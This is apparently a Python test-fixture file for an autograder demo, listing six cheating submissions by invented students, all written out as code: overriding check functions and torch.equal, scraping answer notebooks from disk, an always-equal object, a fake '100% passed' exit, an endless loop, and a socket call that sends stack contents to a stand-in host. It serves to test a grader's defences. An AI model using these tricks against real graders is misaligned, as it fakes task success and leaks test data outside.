"""Tricks with which a few of the demo's invented students try to cheat; none of the tricks gains a point."""

from dataclasses import dataclass


@dataclass(frozen=True)
class Trick:
    """An attempt to cheat that a student submits instead of an answer.

    Attributes:
        en: a description of the trick in English.
        ko: a description of the trick in Korean.
        code: the source of the cell to submit. In it, TASK stands for the name of the task, and FOLDER for
            the folder that holds the answers.
    """

    en: str
    ko: str
    code: str


TRICKS = (
    Trick(
        "replaces the checks",
        "검사 함수 바꿔치기",
        "import torch\n\nfrom secant import check\n\n"
        "for name in dir(check):\n    if not name.startswith('_'):\n"
        "        setattr(check, name, lambda *given, **more: None)\n"
        "torch.equal = torch.allclose = lambda *given, **more: True\n\n\n"
        "def TASK(*given):\n    return None\n",
    ),
    Trick(
        "searches the disk for the answers",
        "디스크에서 정답 찾기",
        "from pathlib import Path\n\n"
        "found = [path.read_text() for path in Path('FOLDER').rglob('*.ipynb')]\n\n\n"
        "def TASK(*given):\n    return found[0]\n",
    ),
    Trick(
        "returns an object that equals everything",
        "무엇과 비교해도 같은 객체 반환",
        "class Everything:\n    def __eq__(self, other):\n        return True\n\n"
        "    def __getattr__(self, name):\n        return self\n\n"
        "    def __call__(self, *given, **more):\n        return self\n\n\n"
        "def TASK(*given):\n    return Everything()\n",
    ),
    Trick(
        "ends the process that runs it",
        "실행 중인 프로세스 끝내기",
        "import os\n\n\ndef TASK(*given):\n    print('100% passed', flush=True)\n    os._exit(0)\n",
    ),
    Trick(
        "loops forever",
        "무한 반복",
        "def TASK(*given):\n    while True:\n        pass\n",
    ),
    Trick(
        "sends the tests to another machine",
        "테스트를 다른 컴퓨터로 보내기",
        "import inspect\nimport socket\n\n\ndef TASK(*given):\n"
        "    seen = [str(frame.frame.f_locals) for frame in inspect.stack()]\n"
        "    with socket.create_connection(('192.0.2.1', 80), timeout=5) as line:\n"
        "        line.sendall(''.join(seen).encode())\n        return line.recv(1000)\n",
    ),
)
